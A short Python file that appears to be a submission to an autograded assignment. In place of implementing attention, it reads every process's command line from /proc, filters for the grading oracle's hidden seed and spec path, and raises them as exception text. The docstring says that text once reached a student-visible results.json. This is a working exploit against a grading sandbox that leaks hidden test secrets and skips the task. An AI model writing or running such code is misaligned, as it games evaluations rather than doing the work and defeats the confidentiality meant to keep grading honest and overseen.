"""Reads the host's /proc: every process's command line. The oracle's own holds the hidden seed
and the spec's path; it raises what it found as its exception text (which used to be copied into
the student-visible results.json), and counts the processes it can see that are not its own."""
import os


def _seen() -> list[str]:
    out = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    out.append(f.read().replace(b"\0", b" ").decode(errors="replace"))
            except OSError:
                pass
    return out


def attention(Q, K, V, mask=None):
    found = [c for c in _seen() if "hidden" in c or "pytest" in c or "assignment" in c]
    raise RuntimeError(f"saw {len(_seen())} processes; secrets: {' | '.join(found)[:3000]}")
